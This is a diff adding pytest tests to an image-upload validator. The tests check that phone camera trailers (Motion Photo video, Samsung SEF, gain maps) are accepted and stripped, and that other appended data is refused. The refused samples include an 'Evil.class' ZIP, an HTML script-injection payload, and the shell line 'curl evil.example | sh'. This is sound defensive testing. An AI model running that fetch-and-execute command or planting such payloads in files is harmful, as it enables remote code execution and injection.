@@ -241,3 +241,134 @@ def test_real_dermoscopy_image_is_accepted(derm_images: list[Path]) -> None:
     assert isinstance(decoded, DecodedImage)
     assert decoded.format == "JPEG"
     assert decoded.image.size == decoded.original_size == (224, 224)
+
+
+# --- phone trailers: data a camera appends after the JPEG ------------------------------------
+
+_MOTION_PHOTO_XMP = (
+    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
+    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+    b'<rdf:Description xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" '
+    b'xmlns:Container="http://ns.google.com/photos/1.0/container/" '
+    b'xmlns:Item="http://ns.google.com/photos/1.0/container/item/" '
+    b'GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1" '
+    b'GCamera:MotionPhotoPresentationTimestampUs="500000">'
+    b"<Container:Directory><rdf:Seq>"
+    b'<rdf:li><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary"/></rdf:li>'
+    b'<rdf:li><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto" '
+    b'Item:Length="LENGTH"/></rdf:li>'
+    b"</rdf:Seq></Container:Directory></rdf:Description></rdf:RDF></x:xmpmeta>"
+)
+
+
+def _box(kind: bytes, payload: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(payload)) + kind + payload
+
+
+def _mp4_like(seconds: int = 1) -> bytes:
+    """An MP4's top-level shape: ``ftyp`` (brand mp42), ``mdat`` with bytes, ``moov`` last."""
+    rng = np.random.default_rng(seconds)
+    return (
+        _box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42")
+        + _box(b"mdat", rng.integers(0, 256, 3000 * seconds, dtype=np.uint8).tobytes())
+        + _box(b"moov", _box(b"mvhd", bytes(100)))
+    )
+
+
+def _samsung_trailer(video: bytes) -> bytes:
+    """Samsung's SEF trailer as its phones write a Motion Photo: one field (marker 0x0a30,
+    ``MotionPhoto_Data``, the video), then the SEFH directory, its length and ``SEFT``."""
+    name = b"MotionPhoto_Data"
+    field = b"\x00\x00\x30\x0a" + struct.pack("<I", len(name)) + name + video
+    entry = b"\x00\x00\x30\x0a" + struct.pack("<II", len(field), len(field))
+    directory = b"SEFH" + struct.pack("<II", 106, 1) + entry
+    return field + directory + struct.pack("<I", len(directory)) + b"SEFT"
+
+
+@pytest.fixture(scope="module")
+def real_jpeg(derm_images: list[Path]) -> bytes:
+    """A real photo, with the XMP block a Pixel writes into a Motion Photo's JPEG."""
+    pixels = np.asarray(Image.open(derm_images[0]).convert("RGB"))
+    xmp = _MOTION_PHOTO_XMP.replace(b"LENGTH", str(len(_mp4_like())).encode())
+    return _encode(pixels, "JPEG", quality=90, xmp=xmp)
+
+
+def _gain_map_jpeg() -> bytes:
+    return _encode(np.full((40, 60, 3), 128, np.uint8), "JPEG", quality=85)
+
+
+@pytest.mark.parametrize(
+    "trailer",
+    [
+        pytest.param(_mp4_like(), id="Google Motion Photo (MP4 appended)"),
+        pytest.param(_gain_map_jpeg() + _mp4_like(), id="Pixel Ultra HDR: gain map, then video"),
+        pytest.param(_samsung_trailer(_mp4_like()), id="Samsung Motion Photo (SEF trailer)"),
+        pytest.param(_mp4_like() + b"\x00" * 7, id="video then NUL padding"),
+    ],
+)
+def test_a_phone_photo_with_a_trailer_is_accepted_and_the_stored_copy_has_no_trailer(
+    real_jpeg: bytes, trailer: bytes
+) -> None:
+    upload = real_jpeg + trailer
+    assert b"MotionPhoto" in upload  # the input is what a phone sends
+    decoded = decode_image(upload, **LIMITS)
+    clean, mime = sanitized_image_bytes(upload, **LIMITS)
+    assert mime == "image/jpeg" and decoded.format == "JPEG"
+    # The stored copy is the picture alone: exactly what the same photo gives without a trailer.
+    assert clean == sanitized_image_bytes(real_jpeg, **LIMITS)[0]
+    assert b"ftyp" not in clean and b"SEFT" not in clean and b"MotionPhoto" not in clean
+    assert len(clean) < len(upload) - len(trailer) // 2
+
+
+def test_a_multi_picture_jpeg_as_pillow_writes_it_is_accepted_as_its_first_picture() -> None:
+    """The Multi-Picture Format (MPF, what an Ultra HDR photo's gain map rides on): a second
+    JPEG after the first one's end, announced in an APP2 segment."""
+    buffer = io.BytesIO()
+    first = Image.fromarray(_marked_photo())
+    first.save(buffer, "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20), "blue")])
+    decoded = decode_image(buffer.getvalue(), **LIMITS)
+    assert decoded.image.size == (120, 80) and _is_red(decoded.image.getpixel((5, 5)))
+
+
+def _zip() -> bytes:
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(64))
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "trailer",
+    [
+        pytest.param(_zip(), id="a ZIP / JAR"),
+        pytest.param(b"<html><script>alert(1)</script></html>", id="an HTML page"),
+        pytest.param(b"#!/bin/sh\ncurl evil.example | sh\n", id="a script"),
+        pytest.param(_mp4_like() + b"<script>alert(1)</script>", id="a video, then a script"),
+        pytest.param(_mp4_like()[:-20], id="a video cut short"),
+        pytest.param(_box(b"ftyp", b"mp42") + b"<html></html>", id="ftyp, then no boxes"),
+        pytest.param(_gain_map_jpeg()[:-2] + b"<html></html>", id="a JPEG without its end"),
+        pytest.param(_samsung_trailer(_mp4_like())[:-9] + b"XSEFT", id="SEFT, broken directory"),
+        pytest.param(b"<html></html>" + _samsung_trailer(b""), id="HTML before a SEF field"),
+    ],
+)
+def test_what_no_phone_camera_writes_after_the_picture_is_still_refused(
+    real_jpeg: bytes, trailer: bytes
+) -> None:
+    with pytest.raises(IntakeError) as refusal:
+        decode_image(real_jpeg + trailer, **LIMITS)
+    assert refusal.value.code == "trailing_data"
+
+
+def test_a_png_with_a_video_after_it_is_refused_no_phone_writes_one() -> None:
+    png = _encode(_marked_photo(), "PNG")
+    with pytest.raises(IntakeError) as refusal:
+        decode_image(png + _mp4_like(), **LIMITS)
+    assert refusal.value.code == "trailing_data"
+
+
+def test_a_video_on_its_own_is_still_not_a_photo() -> None:
+    with pytest.raises(IntakeError) as refusal:
+        decode_image(_mp4_like(), **LIMITS)
+    assert refusal.value.code == "unsupported_format"
